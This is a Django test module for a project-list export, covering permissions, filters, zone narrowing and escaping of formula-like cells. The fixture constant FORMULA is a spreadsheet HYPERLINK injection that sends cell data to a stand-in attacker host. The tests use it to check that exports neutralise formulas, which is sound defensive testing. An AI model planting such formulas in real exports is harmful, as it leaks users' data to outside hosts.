"""Exporting the project list: the list's filters and permissions, cells that cannot run as formulas."""

from __future__ import annotations

import csv
import datetime as dt
import io
import tempfile
from pathlib import Path

from django.http import StreamingHttpResponse
from django.test import TestCase
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from zhaoshang.accounts.models import Role
from zhaoshang.organizations.models import Organization
from zhaoshang.projects.importers import project_import
from zhaoshang.projects.models import Project
from zhaoshang.testing import PASSWORD, make_carrier, make_project, make_user, make_zone

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


class ExportTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.zone = make_zone()
        carrier = make_carrier(cls.zone)
        cls.owner = make_user("owner", Role.OFFICER, team="一组")
        cls.other = make_user("other", Role.OFFICER, team="二组")
        cls.partner = make_user("partner", Role.PARTNER, carrier=carrier)
        cls.secret = make_project(cls.zone, "机密芯片项目", owner=cls.owner, confidential=True, carrier=carrier,
                                  signed_on=dt.date(2020, 5, 1), industry="3973")
        cls.public = make_project(cls.zone, "飞地软件项目", owner=cls.other, carrier=carrier)
        cls.formula = make_project(cls.zone, FORMULA, owner=cls.owner, signed_on=dt.date(2020, 6, 1))
        cls.formula.investors.add(Organization.objects.create(name="+86 投资有限公司"))
        cls.formula.description = "-1 是项目概况"
        cls.formula.save()

    def export(self, user, fmt: str = "csv", **filters) -> tuple[list[list], object]:
        self.client.login(username=user.username, password=PASSWORD)
        response = self.client.get(reverse("projects:export"), {"format": fmt, **filters})
        self.assertEqual(response.status_code, 200)
        assert isinstance(response, StreamingHttpResponse)  # FileResponse (xlsx) is one too
        body = b"".join(response.streaming_content)
        if fmt == "csv":
            return list(csv.reader(io.StringIO(body.decode("utf-8-sig")))), response
        workbook = load_workbook(io.BytesIO(body))
        return [list(r) for r in workbook.active.iter_rows(values_only=True)], response

    def names(self, rows) -> set[str]:
        return {r[0] for r in rows[1:]}

    def test_a_formula_in_a_cell_comes_out_escaped(self):
        for fmt in ("csv", "xlsx"):
            rows, _ = self.export(self.owner, fmt)
            row = next(r for r in rows if "HYPERLINK" in r[0])
            self.assertEqual(row[0], "'" + FORMULA, fmt)
            self.assertEqual(row[1], "'+86 投资有限公司", fmt)
            self.assertEqual(row[-1], "'-1 是项目概况", fmt)

    def test_the_xlsx_cell_is_text_not_a_formula(self):
        self.client.login(username="owner", password=PASSWORD)
        response = self.client.get(reverse("projects:export"), {"format": "xlsx"})
        with tempfile.TemporaryDirectory() as tmp:
            path = Path(tmp) / "x.xlsx"
            path.write_bytes(b"".join(response.streaming_content))
            sheet = load_workbook(path).active
            cells = [c for row in sheet.iter_rows() for c in row if c.value and "HYPERLINK" in str(c.value)]
        self.assertEqual([c.data_type for c in cells], ["s"])

    def test_a_partners_export_does_not_contain_another_teams_confidential_project(self):
        for fmt in ("csv", "xlsx"):
            rows, _ = self.export(self.partner, fmt)
            self.assertEqual(self.names(rows), {"飞地软件项目"}, fmt)
        rows, _ = self.export(self.other)
        self.assertNotIn("机密芯片项目", self.names(rows))
        rows, _ = self.export(self.owner)
        self.assertIn("机密芯片项目", self.names(rows))

    def test_the_export_takes_the_lists_filters(self):
        rows, _ = self.export(self.owner, stage="signed", year="2020")
        self.assertEqual(self.names(rows), {"机密芯片项目", "'" + FORMULA})
        rows, _ = self.export(self.owner, q="软件")
        self.assertEqual(self.names(rows), {"飞地软件项目"})

    def test_the_filename_carries_the_date(self):
        for fmt in ("csv", "xlsx"):
            _, response = self.export(self.owner, fmt)
            disposition = response["Content-Disposition"]
            self.assertIn(f"{timezone.localdate():%Y-%m-%d}.{fmt}", disposition)
            self.assertTrue(disposition.startswith("attachment"))

    def test_an_exported_sheet_imports_back_unchanged(self):
        rows, _ = self.export(self.owner, "xlsx")
        self.assertEqual(rows[0][:6], ["项目名称", "投资方", "统一社会信用代码", "来源城市", "总投资", "阶段"])
        self.client.login(username="owner", password=PASSWORD)
        response = self.client.get(reverse("projects:export"), {"format": "xlsx"})
        with tempfile.TemporaryDirectory() as tmp:
            path = Path(tmp) / "export.xlsx"
            path.write_bytes(b"".join(response.streaming_content))
            before = Project.history.count()
            result = project_import(user=self.owner, zone=self.zone, file=path, filename=path.name)
        self.assertTrue(result.ok, result.problems)
        self.assertEqual((result.created, result.updated, result.unchanged), (0, 0, 3))
        self.assertEqual(Project.history.count(), before)

    def test_an_unknown_format_is_refused(self):
        self.client.login(username="owner", password=PASSWORD)
        self.assertEqual(self.client.get(reverse("projects:export"), {"format": "pdf"}).status_code, 400)

    def test_signed_out_visitors_are_sent_to_sign_in(self):
        response = self.client.get(reverse("projects:export"), {"format": "csv"})
        self.assertEqual(response.status_code, 302)


class SeveralZonesListTests(TestCase):
    """With two zones the list and its export can be narrowed to one; with one zone there is no such filter;
    a partner is offered only the zones of the projects it may see."""

    @classmethod
    def setUpTestData(cls):
        cls.first = make_zone()
        cls.second = make_zone("anji", "安吉经济开发区")
        cls.officer = make_user("zones-officer", Role.OFFICER)
        cls.partner = make_user("zones-partner", Role.PARTNER, carrier=make_carrier(cls.first))
        make_project(cls.first, "南太湖电池项目")
        make_project(cls.second, "安吉竹材项目")

    def listing(self, user, **query):
        self.client.login(username=user.username, password=PASSWORD)
        return self.client.get(reverse("projects:list"), query).content.decode()

    def test_the_list_and_its_export_follow_the_zone_chosen(self):
        everything = self.listing(self.officer)
        self.assertIn("南太湖电池项目", everything)
        self.assertIn("安吉竹材项目", everything)
        self.assertIn('<option value="anji">安吉经济开发区</option>', everything)
        narrowed = self.listing(self.officer, zone="anji")
        self.assertIn("安吉竹材项目", narrowed)
        self.assertNotIn("南太湖电池项目", narrowed)
        rows = list(csv.reader(io.StringIO(b"".join(self.client.get(
            reverse("projects:export"), {"zone": "anji", "format": "csv"}).streaming_content).decode("utf-8-sig"))))
        self.assertEqual([r[0] for r in rows[1:]], ["安吉竹材项目"])

    def test_a_partner_is_not_shown_the_other_zone(self):
        self.assertNotIn("安吉经济开发区", self.listing(self.partner))

    def test_one_zone_has_no_zone_filter(self):
        Project.objects.filter(zone=self.second).delete()
        self.second.delete()
        self.assertNotIn('name="zone"', self.listing(self.officer))
